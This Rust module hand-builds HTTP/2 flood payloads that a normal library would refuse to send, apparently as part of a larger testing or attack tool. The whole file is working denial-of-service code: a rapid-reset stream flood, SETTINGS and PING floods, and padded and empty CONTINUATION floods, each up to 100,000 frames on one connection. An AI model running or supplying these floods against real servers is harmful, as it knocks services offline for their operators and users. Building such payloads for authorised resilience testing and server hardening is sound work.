//! Floods of HTTP/2, as frames made by hand: a library would refuse to send them.

/// The number of the first frames that are sent, in all on one connection.
pub(crate) const FRAMES: usize = 100_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /` by the static table of HPACK.
const GET: [u8; 3] = [0x82, 0x86, 0x84];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The start of a connection, and what is sent after it again and again.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    pub(crate) start: Vec<u8>,
    pub(crate) frames: Vec<Vec<u8>>,
}

pub(crate) fn floods(frames: usize) -> Vec<Flood> {
    let start = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    let numbers = || (0..u32::try_from(frames).expect("a number")).map(|number| number * 2 + 1);
    let flood = |name, frames| Flood { name, start: start.clone(), frames };
    let padding = [&[0x40, 0x7f, 0x81, 0x7e][..], &[b'a'; 255][..]].concat();
    vec![
        flood(
            "HTTP/2 rapid reset",
            numbers()
                .map(|stream| {
                    let begin = frame(HEADERS, END_STREAM | END_HEADERS, stream, &GET);
                    [begin, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
                })
                .collect(),
        ),
        flood("HTTP/2 settings", numbers().map(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).collect()),
        flood(
            "HTTP/2 pings",
            numbers().map(|number| frame(PING, 0, 0, &u64::from(number).to_be_bytes())).collect(),
        ),
        flood(
            "HTTP/2 continuation",
            std::iter::once(frame(HEADERS, END_STREAM, 1, &GET))
                .chain(numbers().map(|_| frame(CONTINUATION, 0, 1, &padding)))
                .collect(),
        ),
        flood(
            "HTTP/2 empty continuation",
            std::iter::once(frame(HEADERS, END_STREAM, 1, &GET))
                .chain(numbers().map(|_| frame(CONTINUATION, 0, 1, &[])))
                .collect(),
        ),
    ]
}
